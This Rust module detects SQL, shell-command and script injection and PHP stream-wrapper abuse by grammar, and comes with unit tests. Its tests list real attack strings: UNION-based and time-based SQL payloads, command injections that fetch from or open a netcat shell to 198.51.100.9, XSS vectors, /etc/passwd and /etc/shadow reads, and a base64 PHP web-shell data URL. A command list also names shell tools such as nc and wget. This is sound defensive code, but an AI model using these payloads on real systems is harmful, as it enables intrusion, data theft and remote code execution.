//! Injection told by its grammar, not by words: SQL as tokens after a value is closed, shell metacharacters followed by a command.

/// A SQL token, as far as telling injection needs.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Tok<'a> {
    /// A quoted string (possibly unterminated).
    Str,
    Num,
    Word(&'a str),
    /// `=`, `<`, `>`, `!=`, `<>`, `<=`, `>=`.
    Compare,
    /// `||` or `&&`.
    Logic,
    /// Any other operator character.
    Op,
    /// `--`, `#` or `/*`.
    Comment,
    Open,
    Close,
    Comma,
    Semi,
}

/// Most tokens looked at in one value: an injection shows itself within its first few dozen.
const MOST_TOKENS: usize = 64;

fn tokens(text: &str) -> Vec<Tok<'_>> {
    let s = text.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < s.len() && out.len() < MOST_TOKENS {
        let c = s[i];
        let next = s.get(i + 1).copied();
        let tok = match c {
            b' ' | b'\t' | b'\n' | b'\r' | 0x0b | 0x0c => {
                i += 1;
                continue;
            }
            b'\'' | b'"' | b'`' => {
                i += 1;
                while i < s.len() && s[i] != c {
                    i += if s[i] == b'\\' { 2 } else { 1 };
                }
                i += 1;
                out.push(Tok::Str);
                continue;
            }
            b'0'..=b'9' => {
                while i < s.len() && (s[i].is_ascii_alphanumeric() || s[i] == b'.') {
                    i += 1;
                }
                out.push(Tok::Num);
                continue;
            }
            c if c.is_ascii_alphabetic() || c == b'_' || c == b'@' || c == b'$' || c >= 0x80 => {
                let start = i;
                while i < s.len()
                    && (s[i].is_ascii_alphanumeric() || matches!(s[i], b'_' | b'@' | b'$' | b'.') || s[i] >= 0x80)
                {
                    i += 1;
                }
                out.push(Tok::Word(&text[start..i]));
                continue;
            }
            b'-' if next == Some(b'-') => (Tok::Comment, s.len() - i),
            b'#' => (Tok::Comment, s.len() - i),
            // A closed inline comment is a space to SQL (`UNION/**/SELECT`); MySQL runs what a
            // `/*!` comment holds, so only its marks are skipped.
            b'/' if next == Some(b'*') => match text[i + 2..].find("*/") {
                Some(_) if s.get(i + 2) == Some(&b'!') => {
                    i += 3;
                    while i < s.len() && s[i].is_ascii_digit() {
                        i += 1;
                    }
                    continue;
                }
                Some(end) => {
                    i += 2 + end + 2;
                    continue;
                }
                None => (Tok::Comment, s.len() - i),
            },
            b'*' if next == Some(b'/') => {
                i += 2;
                continue;
            }
            b'|' if next == Some(b'|') => (Tok::Logic, 2),
            b'&' if next == Some(b'&') => (Tok::Logic, 2),
            b'!' | b'<' | b'>' if next == Some(b'=') || (c == b'<' && next == Some(b'>')) => (Tok::Compare, 2),
            b'=' | b'<' | b'>' => (Tok::Compare, 1),
            b'(' => (Tok::Open, 1),
            b')' => (Tok::Close, 1),
            b',' => (Tok::Comma, 1),
            b';' => (Tok::Semi, 1),
            _ => (Tok::Op, 1),
        };
        out.push(tok.0);
        i += tok.1;
    }
    out
}

fn is(t: Option<&Tok<'_>>, words: &[&str]) -> bool {
    matches!(t, Some(Tok::Word(w)) if words.iter().any(|k| w.eq_ignore_ascii_case(k)))
}

/// Functions an injection calls to wait, read files or leak through errors.
const FUNCTIONS: &[&str] =
    &["sleep", "benchmark", "pg_sleep", "load_file", "extractvalue", "updatexml", "dbms_pipe.receive_message"];
const STATEMENTS: &[&str] = &[
    "select", "insert", "update", "delete", "drop", "exec", "execute", "shutdown", "declare", "create", "alter",
    "truncate", "waitfor",
];

/// `UNION [ALL|DISTINCT] SELECT` at `t`.
fn union_select(t: &[Tok<'_>]) -> bool {
    is(t.first(), &["union"])
        && (is(t.get(1), &["select"]) || (is(t.get(1), &["all", "distinct"]) && is(t.get(2), &["select"])))
}

/// A known function called at `t`.
fn call(t: &[Tok<'_>]) -> bool {
    is(t.first(), FUNCTIONS) && t.get(1) == Some(&Tok::Open)
}

/// What follows a closed value in an injection: a logical operator and a condition, a union, a
/// stacked statement, a comment that cuts the rest of the query off, a function call, an ordering.
fn injection_after_close(t: &[Tok<'_>], quoted: bool) -> Option<&'static str> {
    let first = t.first()?;
    if *first == Tok::Comment {
        return Some("a value closed, then a comment");
    }
    if union_select(t) {
        return Some("a value closed, then UNION SELECT");
    }
    if *first == Tok::Semi && is(t.get(1), STATEMENTS) {
        return Some("a value closed, then a stacked statement");
    }
    if call(t) || (matches!(first, Tok::Op | Tok::Logic) && call(&t[1..])) {
        return Some("a value closed, then a function call");
    }
    if is(Some(first), &["order", "group"]) && is(t.get(1), &["by"]) && t.get(2) == Some(&Tok::Num) {
        return Some("a value closed, then ORDER BY a column number");
    }
    if *first == Tok::Logic || is(Some(first), &["or", "and", "xor", "having", "not"]) {
        let rest = &t[1..];
        let rest = &rest[rest.iter().position(|t| *t != Tok::Open).unwrap_or(rest.len())..];
        if call(rest) {
            return Some("a value closed, then a condition calling a function");
        }
        let operand = |t: Option<&Tok<'_>>| matches!(t, Some(Tok::Num | Tok::Str | Tok::Word(_)));
        if operand(rest.first())
            && (rest.get(1) == Some(&Tok::Compare) || is(rest.get(1), &["like", "is", "in", "between", "regexp"]))
        {
            return Some("a value closed, then an always-true condition");
        }
        // `' OR 1` ends the query where the string ended; after a number (`2 or 3`) that reads
        // as words unless a comment cuts the rest off.
        let ended =
            if quoted { matches!(rest.get(1), None | Some(Tok::Comment)) } else { rest.get(1) == Some(&Tok::Comment) };
        if matches!(rest.first(), Some(Tok::Num | Tok::Str)) && ended {
            return Some("a value closed, then an always-true condition");
        }
    }
    None
}

/// Bytes that can open or close a SQL context; a value with none of them, that starts with no
/// digit, and holds no `union` or known function is no injection, and is not tokenized.
fn worth_tokenizing(v: &str) -> bool {
    let b = v.as_bytes();
    b.first().is_some_and(u8::is_ascii_digit)
        || b.iter().any(|c| matches!(c, b'\'' | b'"' | b'`' | b'(' | b';'))
        || b.windows(5).any(|w| w.eq_ignore_ascii_case(b"union"))
}

/// Why `value` (decoded) reads as SQL injection, if it does: a quote or a number that closes the
/// value the application put it in, followed by SQL (an operator and condition, `UNION SELECT`, a
/// stacked statement, a comment, a function); or `UNION SELECT … FROM` or a known function's call
/// anywhere. Words alone (`select chairs`, `drop table tennis`, `o'reilly books`) are no injection.
pub fn sql_injection(value: &str) -> Option<&'static str> {
    if !worth_tokenizing(value) {
        return None;
    }
    // The value closed by its first quote (a string context).
    if let Some(q) = value.find(['\'', '"', '`']) {
        let t = tokens(&value[q + 1..]);
        let after = t.iter().position(|t| *t != Tok::Close).unwrap_or(t.len());
        if let Some(why) = injection_after_close(&t[after..], true) {
            return Some(why);
        }
    }
    let t = tokens(value);
    // A number that ends a numeric context.
    let start = usize::from(t.first() == Some(&Tok::Op));
    if t.get(start) == Some(&Tok::Num) {
        let after = t[start + 1..].iter().position(|t| *t != Tok::Close).map_or(t.len(), |p| start + 1 + p);
        let rest = &t[after..];
        // A number and a comment (`5--`) is too little to tell.
        if rest.first() != Some(&Tok::Comment) {
            if let Some(why) = injection_after_close(rest, false) {
                return Some(why);
            }
        }
    }
    // Anywhere: a union of a selection from a table, or a known function called with arguments.
    for rest in (0..t.len()).map(|i| &t[i..]) {
        if union_select(rest) && rest.iter().any(|t| is(Some(t), &["from"])) {
            return Some("UNION SELECT … FROM");
        }
        if call(rest) && matches!(rest.get(2), Some(Tok::Num | Tok::Str | Tok::Word(_))) {
            return Some("a known SQL function called");
        }
    }
    None
}

/// Commands an injected shell runs to look around, fetch a payload or open a shell.
const COMMANDS: &[&str] = &[
    "cat",
    "ls",
    "id",
    "whoami",
    "uname",
    "wget",
    "curl",
    "nc",
    "ncat",
    "netcat",
    "bash",
    "sh",
    "zsh",
    "python",
    "python3",
    "perl",
    "php",
    "ruby",
    "ping",
    "echo",
    "rm",
    "chmod",
    "sleep",
    "nslookup",
    "ifconfig",
    "busybox",
    "telnet",
    "powershell",
    "cmd",
    "tftp",
];

/// Why `value` (decoded) reads as command injection, if it does: a shell metacharacter (`;`, `|`,
/// `&`, a newline, `` ` ``, `$(`) followed by a known command and then nothing, or an argument that
/// looks like one (a path, an option, an address, a variable). `cats | dogs` and `tom & jerry; cat
/// toys` are words.
pub fn command_injection(value: &str) -> Option<&'static str> {
    let b = value.as_bytes();
    if !b.iter().any(|c| matches!(c, b';' | b'|' | b'&' | b'\n' | b'`' | b'$')) {
        return None;
    }
    let mut i = 0;
    while i < b.len() {
        let substitution = b[i] == b'`' || (b[i] == b'$' && b.get(i + 1) == Some(&b'('));
        if !(substitution || matches!(b[i], b';' | b'|' | b'&' | b'\n')) {
            i += 1;
            continue;
        }
        let mut j = i + if b[i] == b'$' { 2 } else { 1 };
        while j < b.len() && matches!(b[j], b' ' | b'\t' | b'|' | b'&') {
            j += 1;
        }
        let start = j;
        while j < b.len() && (b[j].is_ascii_alphanumeric() || matches!(b[j], b'/' | b'.' | b'_' | b'-')) {
            j += 1;
        }
        let word = &value[start..j];
        let command = word.rsplit('/').next().unwrap_or(word);
        if COMMANDS.iter().any(|c| c.eq_ignore_ascii_case(command)) {
            let mut k = j;
            while k < b.len() && b[k] == b' ' {
                k += 1;
            }
            let argument = b.get(k).copied();
            let ends = argument.is_none() || matches!(argument, Some(b'`' | b')' | b';' | b'|' | b'&' | b'\n'));
            let looks_like_one =
                k > j && matches!(argument, Some(b'/' | b'-' | b'$' | b'.' | b'~' | b'\'' | b'"' | b'0'..=b'9'));
            if ends || looks_like_one || substitution {
                return Some("a shell metacharacter, then a command");
            }
        }
        i += 1;
    }
    None
}

/// Stream wrappers a file include or fetch follows (`php://filter/…`, `file:///etc/passwd`).
const WRAPPERS: &[(&str, &str)] = &[
    ("php://", "a php:// wrapper"),
    ("file://", "a file:// URL"),
    ("phar://", "a phar:// wrapper"),
    ("zip://", "a zip:// wrapper"),
    ("expect://", "an expect:// wrapper"),
    ("glob://", "a glob:// wrapper"),
    ("data://", "a data: URL"),
];

/// Why a parameter's value (decoded) reads as a stream wrapper or a `data:` URL for an include
/// or a fetch to follow, if it does: the whole value one such URL (`php://filter/…`, `file:///…`,
/// `data:text/plain;base64,…`). Words about them (`php:// wrappers explained`, `data: 2026`) are none.
pub fn wrapper(value: &str) -> Option<&'static str> {
    let v = value.trim_start_matches(|c: char| c.is_ascii_whitespace() || c.is_ascii_control());
    let b = v.as_bytes();
    if b.len() < 6 || !b[..3].iter().all(u8::is_ascii_alphabetic) {
        return None;
    }
    let starts = |prefix: &str| b.len() >= prefix.len() && b[..prefix.len()].eq_ignore_ascii_case(prefix.as_bytes());
    if let Some((prefix, why)) = WRAPPERS.iter().find(|(prefix, _)| starts(prefix)) {
        let rest = &b[prefix.len()..];
        // One URL, nothing else: a path, a host or a filter follows at once, and no space (but
        // a data URL's payload may hold any).
        let follows = rest.first().is_some_and(|c| c.is_ascii_alphanumeric() || matches!(c, b'/' | b'.' | b'~'));
        let one = *prefix == "data://" || !rest.iter().any(u8::is_ascii_whitespace);
        return (follows && one).then_some(*why);
    }
    if starts("data:") {
        // `data:[type/subtype][;param…](,|;base64,)`: a media type or the comma at once.
        let rest = &v[5..];
        let head = &rest[..rest.find(',')?];
        let media = head.split(';').next().unwrap_or("");
        let token = |t: &str| !t.is_empty() && t.bytes().all(|c| c.is_ascii_alphanumeric() || b"+-.".contains(&c));
        let typed = media.is_empty() || media.split_once('/').is_some_and(|(a, b)| token(a) && token(b));
        let params =
            head.split(';').skip(1).all(|p| token(p) || p.split_once('=').is_some_and(|(a, b)| token(a) && token(b)));
        return (typed && params && !head.contains(char::is_whitespace)).then_some("a data: URL");
    }
    None
}

/// HTML tags that run or load script by being there.
const SCRIPT_TAGS: &[&str] = &["script", "iframe", "frame", "object", "embed", "applet", "base", "frameset"];

/// `text` with the HTML character references and JavaScript escapes an injected script may be
/// written in read as what they stand for (`&lt;` `&#60;` `&#x3c;` `\x3c` `\u003c` for `<`);
/// borrowed when it has none.
fn unescaped(text: &str) -> std::borrow::Cow<'_, str> {
    if !text.bytes().any(|b| b == b'&' || b == b'\\') {
        return std::borrow::Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(at) = rest.find(['&', '\\']) {
        out.push_str(&rest[..at]);
        rest = &rest[at..];
        let (c, used) = reference(rest).unwrap_or((rest.chars().next().unwrap_or('&'), 1));
        out.push(c);
        rest = &rest[used..];
    }
    out.push_str(rest);
    std::borrow::Cow::Owned(out)
}

/// The character a reference or escape at the start of `s` stands for, and its length.
fn reference(s: &str) -> Option<(char, usize)> {
    let hex_at = |from: usize, most: usize| {
        let digits = s[from..].bytes().take(most).take_while(u8::is_ascii_hexdigit).count();
        let n = u32::from_str_radix(&s[from..from + digits], 16).ok()?;
        Some((char::from_u32(n)?, from + digits))
    };
    let semi = |(c, at): (char, usize)| (c, if s[at..].starts_with(';') { at + 1 } else { at });
    let b = s.as_bytes();
    match (b.first()?, b.get(1)?, b.get(2)) {
        (b'\\', b'x', _) => hex_at(2, 2).filter(|(_, at)| *at == 4),
        (b'\\', b'u', _) => hex_at(2, 4).filter(|(_, at)| *at == 6),
        (b'&', b'#', Some(b'x' | b'X')) => hex_at(3, 6).filter(|(_, at)| *at > 3).map(semi),
        (b'&', b'#', _) => {
            let digits = s[2..].bytes().take(7).take_while(u8::is_ascii_digit).count();
            let n: u32 = s[2..2 + digits].parse().ok()?;
            Some(semi((char::from_u32(n)?, 2 + digits)))
        }
        (b'&', _, _) => {
            let names = [
                ("&lt", '<'),
                ("&gt", '>'),
                ("&quot", '"'),
                ("&apos", '\''),
                ("&colon", ':'),
                ("&tab", '\t'),
                ("&newline", '\n'),
            ];
            names
                .iter()
                .find(|(n, _)| s.len() >= n.len() && s[..n.len()].eq_ignore_ascii_case(n))
                .map(|(n, c)| semi((*c, n.len())))
        }
        _ => None,
    }
}

/// Why `value` (decoded) reads as script injection, if it does: an HTML tag that runs script
/// (`<script`, `<iframe`), a tag with an event handler (`<img src=x onerror=…>`) or a
/// `javascript:` URL in an attribute, a quoted value closed and an event handler after it, or the
/// whole value a `javascript:` URL that calls something — also written with HTML references or
/// JavaScript escapes. Words (`script writing tips`, `javascript tutorial`, `<3`, `a<b`) are none.
pub fn script_injection(value: &str) -> Option<&'static str> {
    if !value.bytes().any(|b| matches!(b, b'<' | b'"' | b'\'' | b':' | b'&' | b'\\')) {
        return None;
    }
    let text = unescaped(value);
    let b = text.as_bytes();
    let mut i = 0;
    while i < b.len() {
        match b[i] {
            b'<' => {
                let start = i + 1;
                let end = start + b[start..].iter().take_while(|c| c.is_ascii_alphanumeric() || **c == b'-').count();
                let name = &text[start..end];
                let closed = matches!(b.get(end), None | Some(b' ' | b'\t' | b'\n' | b'\r' | 0x0c | b'/' | b'>'));
                if name.as_bytes().first().is_some_and(u8::is_ascii_alphabetic) && closed {
                    if SCRIPT_TAGS.iter().any(|t| t.eq_ignore_ascii_case(name)) {
                        return Some("an HTML tag that runs script");
                    }
                    let (why, reach) = attributes(&b[end..]);
                    if why.is_some() {
                        return why;
                    }
                    i = end + reach;
                    continue;
                }
            }
            b'"' | b'\'' => {
                let (why, reach) = attributes(&b[i + 1..]);
                if why == Some("an HTML tag with an event handler") {
                    return Some("a quoted value closed, then an event handler");
                }
                i += 1 + reach;
                continue;
            }
            _ => {}
        }
        i += 1;
    }
    let scheme: String = text
        .trim_start_matches(|c: char| c.is_ascii_whitespace() || c.is_ascii_control())
        .chars()
        .filter(|c| !matches!(c, '\t' | '\n' | '\r'))
        .take(11)
        .collect();
    if scheme.eq_ignore_ascii_case("javascript:") && text.contains(['(', '`', '=']) {
        return Some("a javascript: URL");
    }
    None
}

/// What the attributes at the start of `b` (inside a tag, up to its `>`) run — an event handler
/// (`onerror=`) or a `javascript:` URL — and how far they reach (the caller goes on from there, so
/// a hostile value is read once, not once per `<` or quote in it).
fn attributes(b: &[u8]) -> (Option<&'static str>, usize) {
    let space = |c: u8| matches!(c, b' ' | b'\t' | b'\n' | b'\r' | 0x0c);
    let mut i = 0;
    loop {
        while i < b.len() && (space(b[i]) || b[i] == b'/') {
            i += 1;
        }
        if i >= b.len() || b[i] == b'>' || b[i] == b'<' {
            return (None, i);
        }
        let start = i;
        while i < b.len() && (b[i].is_ascii_alphanumeric() || matches!(b[i], b'-' | b'_' | b':')) {
            i += 1;
        }
        if i == start {
            return (None, i);
        }
        let name = &b[start..i];
        while i < b.len() && space(b[i]) {
            i += 1;
        }
        if b.get(i) != Some(&b'=') {
            continue;
        }
        let handler =
            name.len() > 4 && name[..2].eq_ignore_ascii_case(b"on") && name[2..].iter().all(u8::is_ascii_alphabetic);
        if handler {
            return (Some("an HTML tag with an event handler"), i);
        }
        i += 1;
        while i < b.len() && space(b[i]) {
            i += 1;
        }
        let quote = b.get(i).copied().filter(|q| matches!(q, b'"' | b'\''));
        if quote.is_some() {
            i += 1;
        }
        let value_start = i;
        // A `<` ends a value too: what follows is read as a tag (a value opened and never closed
        // hides nothing).
        while i < b.len() && b[i] != b'<' && quote.map_or(!(space(b[i]) || b[i] == b'>'), |q| b[i] != q) {
            i += 1;
        }
        // The value's first letters, tabs, newlines and spaces left out (as a browser reads a URL's scheme).
        let mut scheme = b[value_start..i].iter().filter(|c| !space(**c));
        if b"javascript:".iter().all(|want| scheme.next().is_some_and(|c| c.eq_ignore_ascii_case(want))) {
            return (Some("an HTML tag with a javascript: URL"), i);
        }
        if quote.is_some_and(|q| b.get(i) == Some(&q)) {
            i += 1;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn sql_injection_by_its_grammar() {
        for attack in [
            "1 UNION SELECT username,password FROM users--",
            "x' UNION SELECT username, password FROM users--",
            "5' OR 1=1--",
            "' or 'a'='a",
            "admin'--",
            "1) OR (1=1",
            "1 AND SLEEP(5)",
            "1' AND sleep(5)#",
            "'; DROP TABLE users--",
            "1 ORDER BY 3--",
            "x\" or 1 --",
            "1 or 1--",
            "-1 union all select null,null",
            "benchmark(1000000,md5(1))",
            "' || pg_sleep(10)--",
            "1/**/UNION/**/SELECT/**/password/**/FROM/**/users",
            "1 /*!50000UNION*/ /*!50000SELECT*/ 1,2--",
            "x'/**/or/**/1=1#",
        ] {
            assert!(sql_injection(attack).is_some(), "{attack:?} not seen");
        }
        for words in [
            "select chairs",
            "union jack",
            "drop table tennis",
            "o'reilly books",
            "rock & roll",
            "1 or 2 bedrooms",
            "2 or 3",
            "sleep apnea pillow",
            "50% off",
            "\"select all\" button",
            "order by price",
            "and or not",
            "it's a 1=1 match",
            "rock 'n' roll",
            "2",
            "page-2",
            "the union select committee",
            "don't stop",
            "42 is the answer",
            "10-15 years",
        ] {
            assert_eq!(sql_injection(words), None, "{words:?}");
        }
    }

    #[test]
    fn command_injection_is_a_metacharacter_then_a_command() {
        for attack in [
            "127.0.0.1;cat /etc/passwd",
            "x | id",
            "a && whoami",
            "$(curl http://198.51.100.9/x)",
            "`id`",
            "1; /bin/sh -i",
            "x|nc 198.51.100.9 4444",
            "y;sleep 5",
        ] {
            assert!(command_injection(attack).is_some(), "{attack:?} not seen");
        }
        for words in ["cats | dogs", "tom & jerry; cat toys", "rock & roll", "ls & co", "price $5", "a;b"] {
            assert_eq!(command_injection(words), None, "{words:?}");
        }
    }

    #[test]
    fn script_injection_is_a_tag_a_handler_or_a_javascript_url() {
        for attack in [
            "<script>alert(1)</script>",
            "<ScRiPt src=//198.51.100.9/x.js>",
            "<script",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(document.domain)>",
            "<body onload = \"alert(1)\">",
            "<a href=\"java\tscript:alert(1)\">x</a>",
            "<iframe src=//198.51.100.9>",
            "\" onmouseover=\"alert(1)",
            "' autofocus onfocus='alert(1)",
            "javascript:alert(1)",
            "  JavaScript:void(fetch('//x'))",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "&#60;img src=x onerror=alert(1)&#62;",
            "&#x3C;svg onload=alert(1)&#x3E;",
            "\\u003cscript\\u003ealert(1)",
            "\\x3cimg src=x onerror=alert(1)\\x3e",
        ] {
            assert!(script_injection(attack).is_some(), "{attack:?} not seen");
        }
        for words in [
            "script writing tips",
            "javascript tutorial",
            "javascript: the good parts",
            "i <3 cats",
            "a<b and c>d",
            "<b>bold</b> text",
            "<scripting languages>",
            "onerror handling in node",
            "\"onerror handling\" node",
            "onclick=handler syntax",
            "tom & jerry",
            "ben &amp; jerry's",
            "C:\\Users\\x",
            "10:30",
        ] {
            assert_eq!(script_injection(words), None, "{words:?}");
        }
    }

    #[test]
    fn a_hostile_value_is_read_once_not_once_per_tag_or_quote() {
        // Each of these would take quadratic time read again from every `<` or quote in it; the
        // scan's steps are counted by how far it gets, so it is enough that they answer at all
        // and the attack at the end is still seen.
        for unit in ["<a x=a", "\" x=\"a", "<a x='<a x='", "\"a b c "] {
            let hostile = unit.repeat(10_000);
            assert_eq!(script_injection(&hostile), None, "{unit}");
            let ended = format!("{hostile}<img src=x onerror=alert(1)>");
            assert!(script_injection(&ended).is_some(), "{unit}");
        }
    }

    #[test]
    fn stream_wrappers_are_a_whole_value_naming_one() {
        for attack in [
            "php://filter/convert.base64-encode/resource=index.php",
            "PHP://input",
            "file:///etc/passwd",
            "file://localhost/etc/shadow",
            "phar://uploads/avatar.jpg/shell",
            "expect://id",
            "data:text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWzFdKTs/Pg==",
            "data://text/plain,<?php phpinfo(); ?>",
            "data:,hello",
            "data:text/html,<script>alert(1)</script>",
        ] {
            assert!(wrapper(attack).is_some(), "{attack:?} not seen");
        }
        for words in [
            "php:// wrappers explained",
            "php://",
            "file://server/share how to",
            "data: 2026 report",
            "data:image",
            "database",
            "datacenter: frankfurt",
            "filezilla",
            "https://example.com/",
        ] {
            assert_eq!(wrapper(words), None, "{words:?}");
        }
    }
}
